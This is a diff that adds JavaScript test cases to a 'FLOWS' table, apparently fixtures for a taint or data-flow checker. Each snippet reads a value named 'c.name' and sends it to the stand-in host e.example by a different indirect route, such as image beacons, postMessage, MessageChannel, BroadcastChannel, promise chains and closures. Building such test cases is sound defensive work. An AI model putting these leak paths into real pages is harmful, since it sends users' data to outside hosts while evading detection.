@@ -136,6 +136,18 @@ FLOWS = {
  "form_action": "const f = document.createElement('form'); f.action = 'https://e.example/?' + flowUi.get('c.name'); f.submit();",
  "meta_refresh_js": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://e.example/' + flowUi.get('c.name'); document.head.append(m);",
  "favicon_link": "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = 'https://e.example/?' + flowUi.get('c.name'); document.head.append(l);",
+ "bare_onmessage": "onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; postMessage(flowUi.get('c.name'), '*');",
+ "self_onmessage": "self.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; self.postMessage(flowUi.get('c.name'), '*');",
+ "obj_method_closure": "const o = { mk(v) { return () => 'https://e.example/?' + v; } }; const f = o.mk(flowUi.get('c.name')); new Image().src = f();",
+ "arrow_closure_chain": "const mk = (v) => () => 'https://e.example/?' + v; new Image().src = mk(flowUi.get('c.name'))();",
+ "define_on_window": "Object.defineProperty(window, 'x', { get: () => flowUi.get('c.name') }); new Image().src = 'https://e.example/?' + x;",
+ "promise_then_chain": "new Promise((ok) => setTimeout(() => ok(flowUi.get('c.name')))).then((v) => v.toUpperCase()).then((v) => { new Image().src = 'https://e.example/?' + v; });",
+ "promise_await": "(async () => { const v = await new Promise((ok) => ok(flowUi.get('c.name'))); new Image().src = 'https://e.example/?' + v; })();",
+ "bind_then_call": "function s(p, v) { new Image().src = p + v; } const b = s.bind(null, 'https://e.example/?'); b(flowUi.get('c.name'));",
+ "global_then_bare": "window['q'] = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + q;",
+ "keys_spread": "const o = {}; o[flowUi.get('c.name')] = true; new Image().src = 'https://e.example/?' + [...Object.keys(o)].join();",
+ "channel_reverse": "const {port1, port2} = new MessageChannel(); port2.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; port1.postMessage(flowUi.get('c.name'));",
+ "broadcast": "const b = new BroadcastChannel('x'); b.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; b.postMessage(flowUi.get('c.name'));",
  "openurl": "flowUi.openUrl('https://e.example/?' + flowUi.get('c.name'));",
 }
 
